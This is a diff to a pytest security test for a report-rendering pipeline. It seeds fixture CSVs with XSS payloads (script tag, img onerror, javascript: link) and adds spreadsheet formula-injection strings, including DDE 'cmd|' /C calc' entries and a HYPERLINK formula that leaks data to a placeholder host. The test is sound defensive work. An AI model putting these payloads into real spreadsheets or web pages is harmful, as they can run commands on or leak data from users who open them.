@@ -25,16 +25,19 @@ pytestmark = pytest.mark.slow
 SRB_NAME = '<script>alert("srb")</script> SRB'
 INSTRUMENT = "<img src=x onerror=alert(1)>"
 SUBJECT = "[maths](javascript:alert(2))"
-EXIT_REASON = '=HYPERLINK("http://example.invalid/?leak","click")'
+EXIT_REASONS = ['=HYPERLINK("http://example.invalid/?leak","click")', "+cmd|' /C calc'!A0",
+                "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
 
 
-def _replace(path: Path, column: str, old: str | None, new: str, rows: int | None = None):
+def _replace(path: Path, column: str, old: str | None, new: str | list[str],
+             rows: int | None = None):
     with path.open(newline="", encoding="utf-8") as f:
         table = list(csv.reader(f))
     i = table[0].index(column)
+    values = [new] if isinstance(new, str) else new
     for n, row in enumerate(table[1:]):
         if (old is None or row[i] == old) and (rows is None or n < rows):
-            row[i] = new
+            row[i] = values[n % len(values)]
     with path.open("w", newline="", encoding="utf-8") as f:
         csv.writer(f, lineterminator="\n").writerows(table)
 
@@ -48,7 +51,7 @@ def rendered(tmp_path_factory) -> Path:
     _replace(data / "instruments.csv", "instrument", "Small Steps Tracker", INSTRUMENT)
     _replace(data / "assessments.csv", "instrument", "Small Steps Tracker", INSTRUMENT)
     _replace(data / "inclusion.csv", "subject", "mathematics", SUBJECT)
-    _replace(data / "placements.csv", "exit_reason", None, EXIT_REASON, rows=40)
+    _replace(data / "placements.csv", "exit_reason", None, EXIT_REASONS, rows=40)
     params = tmp / "run.yaml"
     params.write_text(yaml.safe_dump({"data_dir": str(data), "reports": [
         {"notebook": n, "parameters": {"audience": a}, "name": f"{n}__{a}"}
